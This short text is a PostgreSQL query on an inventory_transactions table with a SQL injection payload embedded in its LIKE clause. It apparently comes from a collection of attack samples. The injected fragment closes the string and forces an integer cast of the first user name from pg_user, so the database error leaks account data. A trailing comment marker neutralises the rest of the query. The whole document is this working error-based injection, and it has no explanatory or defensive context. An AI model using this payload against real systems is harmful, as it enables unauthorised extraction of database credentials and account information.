SELECT item_code, sum(quantity) FROM inventory_transactions WHERE location LIKE ''
AND
1=(SELECT
usename
FROM
pg_user
LIMIT
1)::int/*%' GROUP BY item_code HAVING sum(quantity) > 42